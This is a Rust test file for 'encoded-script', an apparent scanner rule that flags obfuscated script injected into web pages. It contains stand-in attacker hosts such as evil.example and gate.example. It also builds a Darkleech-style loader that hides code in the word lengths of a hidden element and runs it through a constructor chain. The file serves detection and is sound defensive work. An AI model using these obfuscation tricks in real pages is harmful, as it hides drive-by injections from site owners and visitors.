//! Rule `encoded-script`: every way of hiding, what comes out, and the honest encodings.

use crate::harness::{Outcome, alarms, check, compared, inserted, names, outcome, rewritten, scanned, worst};
use hinomi::model::{Confidence::*, Severity::*};

const RULE: &str = "encoded-script";

#[test]
fn fixtures() {
    check(RULE);
}

#[test]
fn what_reaches_a_stranger_is_certain() {
    for name in ["gumblar", "8080", "percent", "codes", "escapes", "hex"] {
        let found = compared(RULE, &format!("tampered-{name}"));
        assert_eq!(worst(&found, RULE), Some((Critical, Certain)), "{name}: {found:#?}");
        let decoded = found.iter().find(|f| f.rule == RULE).and_then(|f| f.decoded.clone()).unwrap_or_default();
        assert!(decoded.contains("evil.example") || decoded.contains("rogue.invalid"), "{name}: {decoded}");
    }
}

#[test]
fn every_tampered_page_alarms_against_its_baseline() {
    for name in names(RULE, "tampered") {
        let found = compared(RULE, &name);
        assert!(found.iter().any(|f| f.rule == RULE && alarms(f)), "{name}: {found:#?}");
    }
}

#[test]
fn a_first_snapshot_is_judged_alone() {
    for name in ["gumblar", "8080", "percent", "codes", "escapes", "symbols", "hex", "packed"] {
        let found = scanned(RULE, &format!("tampered-{name}"));
        assert!(worst(&found, RULE) >= Some((High, Firm)), "{name}: {found:#?}");
    }
    for name in names(RULE, "harmless").into_iter().chain(["baseline".to_owned()]) {
        assert!(worst(&scanned(RULE, &name), RULE) <= Some((Low, Certain)), "{name}");
    }
}

#[test]
fn the_analytics_snippet_is_exempt_by_its_host_alone() {
    assert_eq!(worst(&compared(RULE, "tampered-analytics"), RULE).map(|w| w.0), Some(High));
}

#[test]
fn honest_encoding_is_no_alarm_where_the_page_had_none() {
    for snippet in [
        // Classic analytics, a packed library, a mail address in turned letters, codes and percent signs.
        "<script>var gaJsHost=((\"https:\"==document.location.protocol)?\"https://ssl.\":\"http://www.\");document.write(unescape(\"%3Cscript src='\"+gaJsHost+\"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));</script>",
        "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1(2){3 2.4(5)}',6,6,'function|slide|box|return|fade|300'.split('|'),0,{}))</script>",
        "<script>var a='<n uers=\"znvygb:vasb@gbja.rknzcyr\">z</n>';document.write(a.replace(/[a-zA-Z]/g,function(c){return String.fromCharCode((c<='Z'?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26)}))</script>",
        "<script>document.write(String.fromCharCode(60,97,32,104,114,101,102,61,109,97,105,108,116,111,58,97,64,98,46,101,120,97,109,112,108,101,62,97,60,47,97,62))</script>",
        "<input type=hidden name=__VIEWSTATE value=\"/wEPDwUKMTY1NDU2MTA1MmRkPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    ] {
        let found = inserted("hidden-frame", "</main>", snippet);
        assert!(outcome(&found) < Outcome::Alarm, "{snippet}: {found:#?}");
    }
}

#[test]
fn what_rotates_on_approved_pages_is_quiet() {
    let state = |value: &str| {
        format!("<form method=post action=/x><input type=hidden name=__VIEWSTATE value=\"{value}\"></form>")
    };
    let quiet = |old: &str, new: &str| {
        let found = rewritten("hidden-frame", old, new);
        assert_eq!(outcome(&found), Outcome::Quiet, "{new}: {found:#?}");
    };
    quiet(&state("/wEPDwUKMTY1NDU2MTA1MmRk"), &state("/wEPDwUKMTY1NDU2MTA1MmRkZ5x2"));
    let captcha = "<script src=\"https://www.google.com/recaptcha/api.js\" async defer></script>";
    quiet(captcha, &format!("{captcha}<p>お知らせ</p>"));
}

#[test]
fn rotating_paths_of_bot_managers_are_for_a_person() {
    let script = |path: &str| format!("<script src=\"/{path}\"></script>");
    let found = rewritten("hidden-frame", &script("A1b2C3d4/xYz12/q9"), &script("Zz9Yy8Xx/k2L/m7N"));
    assert_eq!(outcome(&found), Outcome::Review, "{found:#?}");
}

/// Code as pseudo-Darkleech hid it: in a hidden element, each letter a word whose length and digits say which one.
fn hidden_words(code: &str) -> String {
    let words =
        code.bytes().map(|byte| format!("{}{}", "qwrtpsdf".get(..usize::from(byte / 16)).unwrap_or("q"), byte % 16));
    words.collect::<Vec<_>>().join(" ")
}

#[test]
fn code_in_the_words_of_a_hidden_element_is_read() {
    let hidden = hidden_words("document.write('<iframe src=//gate.example/in></iframe>')");
    let page = |read: &str| {
        format!(
            "<div id='vrtp' style='display:none'>{hidden}</div><script>var x='',w={read}.split(' ');\
             for(var i=0;i<w.length;i++){{var l=w[i].replace(/[0-9]/g,'').length;\
             x+=String.fromCharCode(l*16+parseInt(w[i].substr(l),10))}}var a=\"\\x63\\x6f\\x6e\\x73tructor\";[][a][a](x)()</script>"
        )
    };
    for read in [
        "document.getElementById('vrtp').innerHTML",
        "document.querySelector('#vrtp').textContent",
        "document['getElem'+'entById']('vr'+'tp').firstChild.nodeValue",
    ] {
        let parsed = hinomi::parse::page(page(read).as_bytes(), &hinomi::parse::Options::default());
        let markup: Vec<_> = hinomi::script::reports(&parsed).into_iter().flat_map(|report| report.markup).collect();
        assert_eq!(markup, ["<iframe src=//gate.example/in></iframe>"], "{read}");
    }
}
